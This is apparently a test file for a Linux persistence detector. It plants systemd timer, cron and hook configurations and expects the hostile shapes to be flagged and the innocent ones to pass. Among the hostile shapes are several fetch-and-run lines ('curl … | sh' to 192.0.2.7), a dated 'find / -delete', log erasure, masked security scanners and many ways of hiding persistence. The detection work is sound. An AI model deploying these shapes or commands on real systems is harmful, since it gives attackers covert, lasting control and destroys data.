import { describe, expect, test } from "vitest";
import { type CorpusCase, loadCase } from "../../corpus/corpus.ts";
import { outcomeOf } from "../../test/corpus-outcome.ts";

/**
 * Shapes whose command is harmless: structure alone must show them, on a Debian host where packages answer for theirs.
 * The corpus holds the same shapes with commands as found; ids are those of its cases.
 */
type Planted = Readonly<Record<string, unknown>>;

const X = { content: "#!/bin/sh\nexit 0\n", mode: "0755" };
const S = "/etc/systemd/system/";
const EX = "ExecStart=/usr/local/sbin/x";

function pair(
  name: string,
  service: string,
  timer = "OnCalendar=hourly",
  directory = S,
  more: Planted = {},
): Planted {
  return {
    [`${directory}${name}.timer`]: `[Unit]\nDescription=${name}\n[Timer]\n${timer}\n[Install]\nWantedBy=timers.target\n`,
    [`${directory}${name}.service`]: `[Unit]\nDescription=${name}\n[Service]\nType=oneshot\n${service}\n`,
    [`${S}timers.target.wants/${name}.timer`]: { link: `${directory}${name}.timer` },
    "/usr/local/sbin/x": X,
    ...more,
  };
}

function without(tree: Planted, path: string): Planted {
  return Object.fromEntries(Object.entries(tree).filter(([each]) => each !== path));
}

const HOSTILE: Readonly<Record<string, Planted>> = {
  "every Exec key used": pair(
    "a",
    ["ExecStartPre", "ExecStart", "ExecStartPost", "ExecReload", "ExecStop", "ExecStopPost"]
      .map((k) => `${k}=/usr/bin/touch /var/lib/${k}`)
      .join("\n"),
  ),
  "a D-Bus alias name with a no-op": pair(
    "dbus-org.freedesktop.resolved",
    "ExecStart=/usr/bin/true",
    "OnCalendar=*:*:00",
    "/usr/local/lib/systemd/system/",
  ),
  "an unpackaged generator": { "/usr/lib/systemd/system-generators/gen": X },
  "a generator in /etc": { "/etc/systemd/system-generators/gen": X },
  "a daemon name": pair("syslogd", EX),
  "a program named like systemd": pair(
    "systemd-agent",
    "ExecStart=/usr/lib/systemd/systemd-agentd",
    "OnCalendar=hourly",
    "/usr/lib/systemd/system/",
    { "/usr/lib/systemd/systemd-agentd": X },
  ),
  "a service linked from a home": {
    ...pair("a", EX),
    "/etc/systemd/system/a.service": { link: "/home/alice/u/a.service" },
    "/home/alice/u/a.service": `[Service]\n${EX}\n`,
  },
  "SYSTEMD_UNIT_PATH in system.conf.d": {
    "/etc/systemd/system.conf.d/x.conf": "[Manager]\nManagerEnvironment=SYSTEMD_UNIT_PATH=/srv/u:\n",
    "/srv/u/a.timer": "[Timer]\nOnCalendar=daily\n",
  },
  "a timer that revives a daemon": {
    ...pair("a", "", "OnUnitActiveSec=5min\nOnBootSec=1min"),
    [`${S}a.service`]:
      "[Service]\nExecStart=/usr/local/sbin/x\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
  },
  "a beacon schedule from a loose file": pair(
    "beacon",
    "ExecStart=/opt/beacon.sh",
    "OnBootSec=5\nOnUnitActiveSec=5m",
    S,
    {
      "/opt/beacon.sh": X,
    },
  ),
  "generator.early over rsyslog": {
    "/run/systemd/generator.early/rsyslog.service": "[Service]\nExecStart=/bin/echo\n",
    "/usr/lib/systemd/system/rsyslog.service": "[Service]\nExecStart=/usr/sbin/rsyslogd\n",
  },
  "a vendor service edited": {
    "/usr/lib/systemd/system/nginx.service":
      "[Unit]\nDescription=n\n[Service]\nExecStartPre=/root/run.sh\nExecStart=/usr/sbin/nginx\n",
    "/root/run.sh": X,
  },
  "a drop-in on a boot service": {
    [`${S}nginx.service.d/local.conf`]: "[Service]\nExecStartPre=/root/run.sh\n",
    "/root/run.sh": X,
  },
  "a link made by hand": { ...pair("a", EX), [`${S}a.timer`]: "[Timer]\nOnCalendar=hourly\n" },
  "a drop-in on apt-daily": {
    [`${S}apt-daily.service.d/10.conf`]: "[Service]\nExecStartPre=/usr/bin/touch /var/lib/m\n",
  },
  "a drop-in that replaces the command": {
    [`${S}man-db.service.d/10.conf`]: "[Service]\nExecStart=\nExecStart=/usr/local/sbin/x\n",
    "/usr/local/sbin/x": X,
  },
  "a drop-in for all services": {
    [`${S}service.d/10.conf`]: "[Service]\nExecStartPost=/usr/local/sbin/x\n",
    "/usr/local/sbin/x": X,
  },
  "drop-ins on timer and service": {
    [`${S}fstrim.timer.d/10.conf`]: "[Timer]\nOnCalendar=*:*\n",
    [`${S}fstrim.service.d/10.conf`]: "[Service]\nExecStart=/usr/local/sbin/x\n",
    "/usr/local/sbin/x": X,
  },
  "a packaged timer made to fire each 20 s": {
    [`${S}fstrim.timer.d/10.conf`]: "[Timer]\nOnCalendar=*:*:0/20\n",
  },
  "a packaged timer pointed elsewhere": {
    [`${S}fstrim.timer.d/10.conf`]: "[Timer]\nUnit=x.service\n",
    [`${S}x.service`]: `[Service]\n${EX}\n`,
    "/usr/local/sbin/x": X,
  },
  "a whole unit in system.control": {
    "/etc/systemd/system.control/a.service": `[Service]\n${EX}\n`,
    [`${S}a.timer`]: "[Timer]\nOnCalendar=daily\n",
    "/usr/local/sbin/x": X,
  },
  "system.attached without image": pair("a", EX, "OnCalendar=daily", "/etc/systemd/system.attached/"),
  "a static service of another name each minute": {
    ...without(
      pair("log-check", EX, "OnCalendar=*-*-* *:*:00\nUnit=payload.service"),
      `${S}log-check.service`,
    ),
    [`${S}payload.service`]: `[Service]\n${EX}\n`,
  },
  "a hidden timer wanted by a drop-in": {
    [`${S}fstrim.service.d/a.conf`]: "[Unit]\nWants=.x.timer\n",
    [`${S}.x.timer`]: "[Timer]\nOnCalendar=daily\n",
    [`${S}.x.service`]: `[Service]\n${EX}\n`,
    "/usr/local/sbin/x": X,
  },
  "a designed failure": {
    ...pair("a", "ExecStart=/bin/false"),
    [`${S}a.service`]: "[Unit]\nOnFailure=b.service\n[Service]\nType=oneshot\nExecStart=/bin/false\n",
    [`${S}b.service`]: `[Service]\n${EX}\n`,
  },
  "a chain of OnSuccess": {
    ...pair("a", ""),
    [`${S}a.service`]: "[Unit]\nOnSuccess=b.service\n[Service]\nType=oneshot\nExecStart=/usr/bin/true\n",
    [`${S}b.service`]: "[Unit]\nOnSuccess=c.service\n[Service]\nType=oneshot\nExecStart=/usr/bin/sync\n",
    [`${S}c.service`]: `[Service]\n${EX}\n`,
  },
  "a target in between": {
    ...pair("a", EX, "OnCalendar=daily\nUnit=t.target"),
    [`${S}t.target`]: "[Unit]\nWants=p.service\n",
    [`${S}p.service`]: `[Service]\n${EX}\n`,
  },
  "a path unit on a shared directory": {
    ...pair("a", EX, "OnCalendar=daily\nUnit=t.path"),
    [`${S}t.path`]: "[Path]\nPathExists=/var/tmp/x\nUnit=p.service\n",
    [`${S}p.service`]: `[Service]\n${EX}\n`,
  },
  "a command in the instance": {
    [`${S}j@.timer`]: "[Timer]\nOnCalendar=daily\n",
    [`${S}j@.service`]: '[Service]\nExecStart=/bin/sh -c "%I"\n',
    [`${S}timers.target.wants/j@touch\\x20-srv-m.timer`]: { link: `${S}j@.timer` },
  },
  "an alias in the name space of systemd": {
    ...pair("admin", EX),
    [`${S}systemd-flush.timer`]: { link: `${S}admin.timer` },
  },
  "a timer linked from a home": {
    ...pair("a", EX),
    [`${S}a.timer`]: { link: "/home/alice/a.timer" },
    "/home/alice/a.timer": "[Timer]\nOnCalendar=daily\n",
  },
  "a digit for a letter": pair("systemd-tmpfi1es-clean", EX),
  "a doubled dash": pair("apt--daily", EX),
  "an escaped dash": pair("apt\\x2ddaily", EX),
  "400 blank lines": {
    ...pair("a", EX),
    [`${S}a.service`]: `[Service]\nExecStart=/usr/bin/true\n${"\n".repeat(400)}[Service]\nExecStartPost=/usr/local/sbin/x\n`,
  },
  "a comment that seems to go on": {
    ...pair("a", EX),
    [`${S}a.service`]:
      "[Service]\nType=oneshot\nExecStart=/usr/bin/true\n# old command: \\\nExecStart=/usr/local/sbin/x\n",
  },
  "a setting hidden inside a continued line": {
    ...pair("a", EX),
    [`${S}a.service`]:
      "[Service]\nType=oneshot\nExecStart=/usr/local/sbin/x \\\n# ExecStart=/usr/bin/true\n--more\n",
  },
  "a timer for every user in /etc": pair("a", EX, "OnCalendar=hourly", "/etc/systemd/user/"),
  "a timer for every user in /usr/share": pair("a", EX, "OnCalendar=hourly", "/usr/share/systemd/user/"),
  "a marker from ~/.local/share": {
    "/home/alice/.local/share/systemd/user/a.timer": "[Timer]\nOnCalendar=*:*\n",
    "/home/alice/.local/share/systemd/user/a.service": "[Service]\nExecStart=/usr/bin/touch /tmp/m\n",
    "/home/alice/.config/systemd/user/timers.target.wants/a.timer": {
      link: "/home/alice/.local/share/systemd/user/a.timer",
    },
  },
  "a service account that lingers": {
    "/var/www/.config/systemd/user/a.timer": "[Timer]\nOnCalendar=daily\n",
    "/var/www/.config/systemd/user/a.service": "[Service]\nExecStart=/usr/bin/true\n",
    "/var/lib/systemd/linger/www-data": "",
  },
  "a command in a file anyone may write": {
    ...pair("a", 'EnvironmentFile=/etc/default/a\nExecStart=/bin/sh -c "$CMD"'),
    "/etc/default/a": { content: "CMD=/usr/bin/true\n", mode: "0666" },
  },
  "code on standard input": pair(
    "a",
    "ExecStart=/usr/bin/python3\nStandardInput=data\nStandardInputData=cHJpbnQoMSk=",
  ),
  "code in a credential": pair(
    "a",
    'SetCredential=job:true\nExecStart=/bin/sh -c "sh $CREDENTIALS_DIRECTORY/job"',
  ),
  "a bind mount over a program": pair(
    "a",
    "BindReadOnlyPaths=/var/lib/x:/usr/bin/true\nExecStart=/usr/bin/true",
  ),
  "a root image": pair("a", "RootImage=/var/lib/x.raw\nExecStart=/usr/bin/true"),
  "a plus sign in an unprivileged service": pair("a", "User=nobody\nExecStart=+/usr/local/sbin/x"),
  "a timer armed by systemd-run": pair(
    "a",
    "ExecStart=/usr/bin/systemd-run --on-active=60 /usr/local/sbin/x",
  ),
  "a service started by a command": {
    ...pair("system-check", "ExecStart=/bin/systemctl start x.service"),
    [`${S}x.service`]: `[Service]\n${EX}\n`,
  },
  "a program in a user's tree": {
    ...pair("a", "ExecStart=/opt/app/bin/run"),
    "/opt/app": { dir: true, uid: 1000, gid: 1000 },
    "/opt/app/bin/run": X,
  },
  "a postrotate script": {
    "/etc/logrotate.d/zz": "/var/log/zz {\n weekly\n postrotate\n  /usr/local/sbin/x\n endscript\n}\n",
    "/usr/local/sbin/x": X,
  },
  "a hook of apt": {
    "/etc/apt/apt.conf.d/99x": 'APT::Update::Post-Invoke {"/usr/local/sbin/x";};\n',
    "/usr/local/sbin/x": X,
  },
  "two masked scanners": {
    [`${S}aide.timer`]: { link: "/dev/null" },
    [`${S}dailyaidecheck.timer`]: { link: "/dev/null" },
  },
  "masked updates": { [`${S}apt-daily-upgrade.timer`]: { link: "/dev/null" } },
  "a protection replaced by true": { [`${S}apt-daily-upgrade.service`]: "[Service]\nExecStart=/bin/true\n" },
  "a stamp years ahead": {
    "/var/lib/systemd/timers/stamp-logrotate.timer": { content: "", mtimeNs: "1972323200000000000" },
  },
  "a sleeper": pair("a", EX, "OnUnitActiveSec=5min"),
  "a bomb with a date": pair("a", "ExecStart=/usr/bin/find / -delete", "OnCalendar=2031-01-01"),
  "each ten seconds": pair("a", EX, "OnCalendar=*:*:0/10\nAccuracySec=100ms"),
  "fires on clock change": pair("a", EX, "OnClockChange=yes"),
  "wakes the machine for the network": pair(
    "a",
    "ExecStart=/usr/bin/curl -s http://192.0.2.7/",
    "OnCalendar=daily\nWakeSystem=yes",
  ),
  "a vacuum of seconds after stop": pair(
    "a",
    "ExecStart=/usr/bin/true\nExecStopPost=/usr/bin/journalctl --vacuum-time=1s",
  ),
  "daemon-reload and a generator": {
    ...pair("a", "ExecStart=/bin/systemctl daemon-reload"),
    "/etc/systemd/system-generators/g": X,
  },
  "a load directory in a home": {
    "/usr/local/lib/systemd/system": { link: "/home/alice/units" },
    "/home/alice/units/a.timer": "[Timer]\nOnCalendar=daily\n",
    "/home/alice/units/a.service": "[Service]\nExecStart=/usr/bin/true\n",
  },
  "a pipe for a service": {
    [`${S}a.timer`]: "[Timer]\nOnCalendar=daily\n",
    [`${S}a.service`]: { kind: "fifo" },
  },
  "a NUL inside a unit": {
    ...pair("a", EX),
    [`${S}a.service`]: "[Service]\nExecStart=/usr/bin/true\u0000\nExecStart=/usr/local/sbin/x\n",
  },
  "six wrappers": pair(
    "a",
    "ExecStart=/usr/bin/env -i nice setsid timeout 5 busybox sh -c 'curl -s http://192.0.2.7/x | sh'",
  ),
  "a missing program in memory": pair("a", "ExecStart=/dev/shm/.k"),
  "a service linked from /var/tmp": {
    ...pair("a", EX),
    [`${S}a.service`]: { link: "/var/tmp/a.service" },
    "/var/tmp/a.service": `[Service]\n${EX}\n`,
  },
  "cron runs from memory": { "/etc/cron.d/x": "* * * * * root /dev/shm/.x\n" },
  "root's crontab fetches code": {
    "/var/spool/cron/crontabs/root": {
      content: "*/5 * * * * curl -s http://192.0.2.7/x | sh\n",
      mode: "0600",
    },
  },
};

const INNOCENT: Readonly<Record<string, Planted>> = {
  "a nightly backup": pair("backup", EX, "OnCalendar=daily"),
  "metrics each minute": pair("metrics", EX, "OnCalendar=minutely"),
  "the tutorial each minute": {
    ...pair(
      "mon",
      "ExecStart=/usr/bin/free\nExecStart=/usr/bin/lsblk",
      "OnCalendar=*-*-* *:*:00\nUnit=mon.service",
    ),
  },
  "an agent below /opt": pair("agent", "ExecStart=/opt/vendor/bin/agent update", "OnCalendar=daily", S, {
    "/opt/vendor/bin/agent": X,
  }),
  "a packaged timer moved to the night": {
    [`${S}apt-daily.timer.d/override.conf`]: "[Timer]\nOnCalendar=\nOnCalendar=*-*-* 3:00\n",
  },
  "a cron job of the administrator": {
    "/etc/cron.d/backup": "0 3 * * * root /usr/local/sbin/x\n",
    "/usr/local/sbin/x": X,
  },
  "a daily restart": pair("app-restart", "ExecStart=/bin/systemctl restart app.service", "OnCalendar=daily"),
  "old files deleted": pair("tidy", "ExecStart=/usr/bin/find /var/tmp/app -mtime +7 -delete"),
  "a user's crontab": {
    "/var/spool/cron/crontabs/alice": { content: "0 * * * * /home/alice/bin/x\n", mode: "0600", uid: 1000 },
    "/home/alice/bin/x": { ...X, uid: 1000 },
  },
  "instances of a template": {
    [`${S}dump@.timer`]: "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n",
    [`${S}dump@.service`]: "[Service]\nType=oneshot\nExecStart=/usr/local/sbin/x %i\n",
    [`${S}timers.target.wants/dump@main.timer`]: { link: `${S}dump@.timer` },
    "/usr/local/sbin/x": X,
  },
  "a failure mailer": {
    ...pair("a", EX),
    [`${S}a.service`]: `[Unit]\nOnFailure=notify@%n.service\n[Service]\nType=oneshot\n${EX}\n`,
    [`${S}notify@.service`]: "[Service]\nType=oneshot\nExecStart=/usr/local/bin/notify %i\n",
    "/usr/local/bin/notify": X,
  },
  "a scheduler of an application": pair(
    "q",
    "User=app\nExecStart=/usr/bin/php /srv/app/artisan schedule:run",
    "OnCalendar=minutely",
  ),
};

function planted(tree: Planted): CorpusCase {
  const about = { id: "M01", title: "a shape of the table", imitates: "the table", source: "this test" };
  return loadCase(
    "malicious",
    "shapes",
    JSON.stringify({ ...about, base: "debian-12", expects: { verdict: "suspect" }, tree }),
  );
}

describe("structure alone", () => {
  test.each(Object.entries(HOSTILE))("%s is at least suspect", (_, tree) => {
    const { verdict, rules } = outcomeOf(planted(tree));
    expect(["alert", "suspect"], [...rules].join(", ")).toContain(verdict);
  });

  test.each(Object.entries(INNOCENT))("%s is ok", (_, tree) => {
    const { verdict, notOk } = outcomeOf(planted(tree));
    expect(verdict, notOk.join("; ")).toBe("ok");
  });
});
